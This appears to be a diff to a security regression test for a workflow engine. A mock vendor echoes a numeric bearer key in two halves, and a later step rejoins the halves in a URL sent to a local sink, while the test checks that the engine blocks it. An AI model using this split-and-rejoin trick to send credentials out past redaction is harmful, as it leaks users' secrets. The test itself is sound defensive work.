@@ -272,7 +272,11 @@ describe("review: a digits-only credential echoed as a JSON number (issue 11 fin
     const vendor = createServer((req, res) => {
       const token = String(req.headers.authorization ?? "").replace(/^Bearer /, "");
       res.writeHead(200, { "content-type": "application/json" });
-      res.end(`{"quantity": ${/^[0-9]+$/.test(token) ? token : 0}}`);
+      const digitsOnly = /^[0-9]+$/.test(token) ? token : "0";
+      // It also echoes the key in two halves, which no redaction by value can recognise.
+      res.end(
+        `{"quantity": ${digitsOnly}, "a": "${digitsOnly.slice(0, 6)}", "b": "${digitsOnly.slice(6)}"}`,
+      );
     });
     const sinkSeen: string[] = [];
     const sink = createServer((req, res) => {
@@ -312,11 +316,19 @@ describe("review: a digits-only credential echoed as a JSON number (issue 11 fin
                   auth: { type: "bearer", credential: "numeric_key" },
                   body: { type: "json", value: { tag: "x" } },
                 },
-                extract: { q: "$.quantity" },
+                extract: { q: "$.quantity", a: "$.a", b: "$.b" },
               },
               {
                 id: "leak",
+                onError: "continue",
                 request: { method: "GET", url: `http://${sinkHost}/c/{{steps.tags.q}}` },
+              },
+              {
+                id: "join",
+                request: {
+                  method: "GET",
+                  url: `http://${sinkHost}/j?k={{steps.tags.a}}{{steps.tags.b}}`,
+                },
               },
             ],
           },
@@ -331,6 +343,8 @@ describe("review: a digits-only credential echoed as a JSON number (issue 11 fin
       });
       expect(dry.status, JSON.stringify(dry.body)).toBe(200);
       expect(JSON.stringify(dry.body)).not.toContain(digits);
+      const drySteps = (dry.body as { steps: { id: string; error?: { kind: string } }[] }).steps;
+      expect(drySteps.find((step) => step.id === "join")?.error?.kind).toBe("blocked");
       const started = await local.json<{ id: string }>(`${base}/executions`, {
         method: "POST",
         token: t.member.token,
